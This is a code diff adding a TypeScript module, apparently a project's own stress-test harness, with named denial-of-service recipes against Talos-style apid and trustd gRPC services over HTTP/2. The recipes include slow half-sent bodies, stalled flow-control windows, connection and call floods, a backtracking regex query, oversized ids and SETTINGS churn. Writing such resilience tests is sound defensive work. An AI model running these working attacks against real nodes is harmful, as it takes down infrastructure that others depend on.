@@ -1,0 +1,247 @@
+/**
+ * What clients can do that mean no good, each as one program that goes on for a while. A recipe uses only what its caller
+ * may do: `reader` has a certificate with os:reader, `anyone` none.
+ */
+import { encode } from '../../src/rpc/codec.ts'
+import { frameHeader, sealFrame } from '../../src/rpc/frame.ts'
+import type { Methods } from '../../src/rpc/messages.ts'
+import { methodShape } from '../../src/rpc/schema.ts'
+import { flag, frameType } from '../../src/wire/http2/frame.ts'
+import { RawClient } from '../../tests/rpc/http2/raw-client.ts'
+
+/** Where an attack goes, and as whom. */
+export interface Victim {
+  readonly host: string
+  /** In PEM; none for those who have none. */
+  readonly cert?: string
+  readonly key?: string
+  /** A container whose logs turn round all the time, for the recipe that follows them. */
+  readonly container?: string
+}
+
+/** One kind of attack. */
+export interface Recipe {
+  readonly port: number
+  readonly what: string
+  /** Follows the logs of a container that never stops writing, which somebody with root on the node has to arrange. */
+  readonly rotates?: boolean
+  run(victim: Victim, over: () => boolean): Promise<void>
+}
+
+const grpc = { 'content-type': 'application/grpc', te: 'trailers' }
+const apid = 50_000
+const trustd = 50_001
+const chunk = 16_384
+
+const wait = (milliseconds: number) => new Promise<void>((resolve) => setTimeout(resolve, milliseconds))
+
+class Attacker {
+  readonly #clients = new Set<RawClient>()
+  constructor(
+    readonly victim: Victim,
+    readonly port: number,
+    readonly over: () => boolean,
+  ) {}
+
+  /** A connection; undefined when it was refused. */
+  async connect(settings: { initialWindowSize?: number } = {}): Promise<RawClient | undefined> {
+    const { host, cert, key } = this.victim
+    try {
+      const client = await RawClient.connect({ hostname: host, port: this.port, tls: { ...(cert && { cert, key: key! }) } }, { settings })
+      this.#clients.add(client)
+      return client
+    } catch {
+      return undefined
+    }
+  }
+
+  /** Keeps so many connections, each used as told, until the time is over. */
+  async keep(count: number, settings: { initialWindowSize?: number }, use: (client: RawClient) => Promise<void>): Promise<void> {
+    const one = async () => {
+      while (!this.over()) {
+        const client = await this.connect(settings)
+        if (client) await use(client).catch(() => {})
+        client?.close()
+        if (client) this.#clients.delete(client)
+        await wait(20)
+      }
+    }
+    await Promise.all(Array.from({ length: count }, one))
+  }
+
+  /** Until the client is closed, or the time is over. */
+  async hold(client: RawClient): Promise<void> {
+    while (!client.closed && !this.over()) await wait(50)
+  }
+
+  /** Opens a call; a body that is an object is sent whole. */
+  open(client: RawClient, stream: number, path: keyof Methods, body?: object, metadata: Record<string, string> = {}, end = true): void {
+    client.request(stream, { ':path': `/${path}`, ...grpc, ...metadata }, flag.END_HEADERS)
+    if (!body) return
+    const frame = sealFrame(encode(methodShape(`/${path}`).request, body, frameHeader))
+    for (let at = 0; at < frame.length; at += chunk) {
+      const last = at + chunk >= frame.length
+      client.frame(frameType.DATA, last && end ? flag.END_STREAM : 0, stream, frame.subarray(at, at + chunk))
+    }
+  }
+}
+
+type Use = (attacker: Attacker, client: RawClient) => Promise<void>
+
+function recipe(port: number, what: string, connections: number, settings: { initialWindowSize?: number }, use: Use): Recipe {
+  return {
+    port,
+    what,
+    async run(victim, over) {
+      const attacker = new Attacker(victim, port, over)
+      await attacker.keep(connections, settings, (client) => use(attacker, client))
+    },
+  }
+}
+
+/** A request that promises much more than it sends, and sends that a window at a time. */
+async function half(attacker: Attacker, client: RawClient, calls: number, path: keyof Methods, metadata: Record<string, string> = {}) {
+  const promise = Buffer.from([0, 0x01, 0xf0, 0, 0])
+  for (let n = 0; n < calls; n++) {
+    attacker.open(client, 1 + 2 * n, path, undefined, metadata)
+    client.frame(frameType.DATA, 0, 1 + 2 * n, promise)
+  }
+  for (let sent = 0; sent < 31 << 20 && !client.closed && !attacker.over(); sent += chunk) {
+    for (let n = 0; n < calls; n++) client.frame(frameType.DATA, 0, 1 + 2 * n, Buffer.alloc(chunk))
+    const updates = client.said.filter((line) => line.startsWith('WINDOW_UPDATE')).length
+    for (
+      let rest = 0;
+      rest < 20 && !client.closed && client.said.filter((line) => line.startsWith('WINDOW_UPDATE')).length === updates;
+      rest++
+    )
+      await wait(10)
+  }
+  await attacker.hold(client)
+}
+
+async function hang(attacker: Attacker, client: RawClient, calls: number, path: keyof Methods, body: object): Promise<void> {
+  for (let n = 0; n < calls; n++) attacker.open(client, 1 + 2 * n, path, body)
+  await attacker.hold(client)
+}
+
+/** Calls one after another, so many at a time, until the time is over. */
+async function flood(attacker: Attacker, client: RawClient, flying: number, path: keyof Methods, body: object): Promise<void> {
+  let next = 1
+  const begin = () => {
+    if (client.closed || attacker.over()) return
+    attacker.open(client, next, path, body)
+    next += 2
+  }
+  for (let n = 0; n < flying; n++) begin()
+  while (!client.closed && !attacker.over()) {
+    await wait(1)
+    const ends = client.said.filter((line) => line.startsWith('RST_STREAM') || line.endsWith(' end')).length
+    client.said.length = 0
+    for (let n = 0; n < ends; n++) begin()
+  }
+}
+
+const watch = { namespace: 'network', type: 'AddressStatuses.net.talos.dev', apiVersion: 1 }
+
+/** All recipes, by name. */
+export const recipes: Record<string, Recipe> = {
+  'trustd-bodies': recipe(trustd, 'requests to trustd without a token that promise 32 MiB, 16 at a time', 4, {}, (attacker, client) =>
+    half(attacker, client, 4, 'securityapi.SecurityService/Certificate'),
+  ),
+  'trustd-connections': recipe(
+    trustd,
+    'connections to trustd with one unfinished call each, 600 at a time',
+    600,
+    {},
+    async (attacker, client) => {
+      attacker.open(client, 1, 'securityapi.SecurityService/Certificate')
+      await attacker.hold(client)
+    },
+  ),
+  bodies: recipe(apid, 'requests that promise 32 MiB and never end, 25 at a time', 5, {}, (attacker, client) =>
+    half(attacker, client, 5, 'machine.MachineService/Hostname'),
+  ),
+  'bodies-nodes': recipe(apid, 'the same to several nodes', 5, {}, (attacker, client) =>
+    half(attacker, client, 5, 'machine.MachineService/Hostname', { nodes: '127.0.0.1,localhost' }),
+  ),
+  'long-id': recipe(apid, 'logs of a service whose name has 60 KiB and a megabyte, over and over', 2, {}, async (attacker, client) => {
+    await flood(attacker, client, 4, 'machine.MachineService/Logs', { id: 'a'.repeat(60_000) })
+  }),
+  elements: recipe(apid, 'a request of a million empty elements, over and over', 1, {}, async (attacker, client) => {
+    client.frame(frameType.WINDOW_UPDATE, 0, 0, Buffer.from([0, 0x10, 0, 0]))
+    const body = sealFrame(Buffer.concat([Buffer.alloc(frameHeader), Buffer.from('0a00'.repeat(25_000), 'hex')]))
+    for (let n = 0; !client.closed && !attacker.over(); n++) {
+      attacker.open(client, 1 + 2 * n, 'storage.StorageService/BlockDeviceWipe')
+      for (let at = 0; at < body.length; at += chunk)
+        client.frame(frameType.DATA, at + chunk >= body.length ? flag.END_STREAM : 0, 1 + 2 * n, body.subarray(at, at + chunk))
+      await client.until(() =>
+        client.said.some((line) => line.startsWith(`HEADERS ${1 + 2 * n}`) || line.startsWith(`RST_STREAM ${1 + 2 * n}`)),
+      )
+    }
+  }),
+  patterns: recipe(apid, 'lists by patterns for ids that backtrack', 2, {}, async (attacker, client) => {
+    const query = (regexp: string) => ({
+      namespace: 'runtime',
+      type: 'KernelParamStatuses.runtime.talos.dev',
+      options: { idQuery: { regexp } },
+    })
+    await flood(attacker, client, 4, 'cosi.resource.State/List', query('(.|.)*!'))
+  }),
+  unread: recipe(apid, 'answers that nobody reads, 750 at a time', 3, { initialWindowSize: 0 }, (attacker, client) =>
+    hang(attacker, client, 250, 'machine.MachineService/Dmesg', { follow: true }),
+  ),
+  'unread-logs': recipe(apid, 'the same of a service', 3, { initialWindowSize: 0 }, (attacker, client) =>
+    hang(attacker, client, 250, 'machine.MachineService/Logs', { namespace: 'system', id: 'machined', follow: true, tailLines: -1 }),
+  ),
+  'unread-socket': recipe(apid, 'the kernel log, with the socket itself not read, 60 connections', 60, {}, async (attacker, client) => {
+    client.frame(frameType.WINDOW_UPDATE, 0, 0, Buffer.from([0x3f, 0, 0, 0]))
+    client.pause()
+    await hang(attacker, client, 100, 'machine.MachineService/Dmesg', { follow: true })
+  }),
+  'unread-socket-logs': recipe(
+    apid,
+    'logs of a service, with the socket itself not read, 60 connections',
+    60,
+    {},
+    async (attacker, client) => {
+      client.frame(frameType.WINDOW_UPDATE, 0, 0, Buffer.from([0x3f, 0, 0, 0]))
+      client.pause()
+      await hang(attacker, client, 100, 'machine.MachineService/Logs', { namespace: 'system', id: 'machined', follow: true, tailLines: -1 })
+    },
+  ),
+  endless: recipe(apid, 'calls that never end, 1,024 at a time on 12 connections', 12, {}, (attacker, client) =>
+    hang(attacker, client, 256, 'cosi.resource.State/Watch', watch),
+  ),
+  connections: recipe(apid, 'connections with a call each, 600 at a time', 600, {}, (attacker, client) =>
+    hang(attacker, client, 1, 'cosi.resource.State/Watch', watch),
+  ),
+  calls: recipe(apid, 'calls as fast as they are answered, 512 at a time', 2, {}, (attacker, client) =>
+    flood(attacker, client, 256, 'machine.MachineService/Hostname', {}),
+  ),
+  audit: recipe(apid, 'calls of every kind that are refused, for the audit log', 2, {}, (attacker, client) =>
+    flood(attacker, client, 64, 'machine.MachineService/Reboot', {}),
+  ),
+  'compressed-logs': {
+    ...recipe(
+      apid,
+      'logs that are put aside and compressed all the time, followed 8 times',
+      2,
+      { initialWindowSize: 0x3fffffff },
+      async (attacker, client) => {
+        client.frame(frameType.WINDOW_UPDATE, 0, 0, Buffer.from([0x3f, 0, 0, 0]))
+        const body = { namespace: 'k8s.io', driver: 1, id: attacker.victim.container ?? '', follow: true, tailLines: 0 }
+        const forget = setInterval(() => client.said.splice(0), 1000)
+        await hang(attacker, client, 4, 'machine.MachineService/Logs', body)
+        clearInterval(forget)
+      },
+    ),
+    rotates: true,
+  },
+  settings: recipe(apid, 'settings that change all the time, with 256 calls open', 4, {}, async (attacker, client) => {
+    for (let n = 0; n < 256; n++) attacker.open(client, 1 + 2 * n, 'cosi.resource.State/Watch', watch)
+    for (let n = 0; !client.closed && !attacker.over(); n++) {
+      for (let burst = 0; burst < 100; burst++) client.settings({ initialWindowSize: (n + burst) % 2 })
+      await wait(1)
+    }
+  }),
+}
